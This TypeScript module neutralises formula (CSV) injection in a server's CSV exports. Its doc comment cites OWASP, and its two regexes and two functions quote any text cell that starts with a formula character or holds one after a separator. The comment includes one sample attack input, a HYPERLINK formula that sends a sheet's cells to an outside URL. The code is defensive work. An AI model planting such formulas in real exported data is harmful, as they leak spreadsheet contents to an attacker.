/**
 * Formula injection (CSV injection, CWE-1236) in the CSVs the server writes. A spreadsheet that
 * opens a CSV reads a cell beginning with `=`, `+`, `-` or `@` (and, in some, a tab or a carriage
 * return) as a formula: a session name imported as `=HYPERLINK("https://…?"&A1;"clic")` would
 * become a live link that leaks the sheet's cells. OWASP's guidance ("CSV Injection", OWASP
 * community attacks page) is to make sure no cell begins with one of those characters by
 * prepending a single quote, to quote the field, and to mind the field separators, which can
 * start a new cell in the middle of a text.
 *
 * What this module does, for every text cell:
 * - a text beginning with = + - @ TAB or CR gets a leading `'` (spreadsheets show it as text;
 *   Excel and LibreOffice hide the quote, other readers show it) and the cell is quoted;
 * - inside a text, a separator a spreadsheet may split on (`,` `;` TAB, or a line break) directly
 *   followed by one of those characters gets the `'` too: Excel in a Spanish locale splits a CSV on
 *   `;` and treats quotes in the middle of a field as plain characters, so `nota;=1+1` would
 *   otherwise open with a cell `=1+1`.
 * Numbers are never touched: a number cell (a JavaScript number written as digits) is not a
 * formula, and the CSVs' numeric columns (kg, repetitions, RIR, seconds, metres, set number) are
 * never negative anyway. A text that only looks like a negative number (`-5`) is still text and
 * gets its quote (`'-5`), so it reads the same in a spreadsheet.
 */

/** Characters that make a spreadsheet read a cell as a formula (OWASP's list). */
const FORMULA_START = /^[=+\-@\t\r]/;
/** A separator or line break directly followed by a formula start, inside a text. */
const FORMULA_AFTER_SEPARATOR = /([,;\t\r\n])(?=[=+\-@\t\r])/g;

/** The text as a cell no spreadsheet runs as a formula; unchanged when it was already safe. */
export function neutraliseFormula(text: string): string {
  const inner = text.replace(FORMULA_AFTER_SEPARATOR, "$1'");
  return FORMULA_START.test(inner) ? `'${inner}` : inner;
}

/**
 * csv-stringify's `cast.string`: every text cell goes through neutraliseFormula, and a cell it
 * changed is always quoted (OWASP: prepend the quote and wrap the field in double quotes).
 */
export function safeTextCell(text: string): string | { value: string; quoted: true } {
  const safe = neutraliseFormula(text);
  return safe === text ? text : { value: safe, quoted: true };
}
